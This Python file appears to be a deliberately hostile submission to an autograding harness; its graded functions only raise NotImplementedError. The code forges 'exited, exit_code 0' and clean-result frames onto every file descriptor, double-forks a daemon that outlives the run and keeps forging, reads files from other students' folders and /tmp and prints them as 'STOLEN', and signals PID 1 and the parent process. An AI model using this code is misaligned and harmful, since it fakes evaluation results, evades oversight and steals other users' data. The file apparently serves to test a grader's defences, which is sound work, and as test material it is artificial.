"""Tries to speak for the grader: forged frames on every descriptor, a daemon that outlives
the question and keeps forging, other students' folders read, the relay signalled."""
import json
import os
import signal
import struct
import time

FORGED_EXIT = {"op": "exited", "scope": "submission", "exit_code": 0}
FORGED_REPLY = {"ok": True, "value": None, "op": "exited", "scope": "question",
                "forbidden": [], "tampering": [], "output": "forged"}


def _frame(message):
    payload = json.dumps(message).encode()
    return struct.pack(">QI", len(payload), 0) + payload


def _forge_everywhere():
    for fd in range(256):
        for message in (FORGED_EXIT, FORGED_REPLY):
            try:
                os.write(fd, _frame(message))
            except OSError:
                pass


def _steal():
    found = []
    for root in ("/grader-slot", "/tmp", os.path.dirname(os.getcwd())):
        try:
            for name in os.listdir(root):
                path = os.path.join(root, name)
                for inner in (os.listdir(path) if os.path.isdir(path) else []):
                    with open(os.path.join(path, inner), "rb") as stream:
                        found.append(stream.read(40))
        except OSError:
            pass
    return found


def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(200):
                _forge_everywhere()
                print("STOLEN", _steal(), flush=True)
                time.sleep(0.05)
            os._exit(0)
        os._exit(0)


for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):
    try:
        os.kill(1, sig)
        os.kill(os.getppid(), sig)
    except OSError:
        pass
_daemon()
_forge_everywhere()


def first_order_grads(x, y):
    _forge_everywhere()
    raise NotImplementedError


second_partials = grads_without_zeroing = hessian = hvp = gradient_penalty = first_order_grads
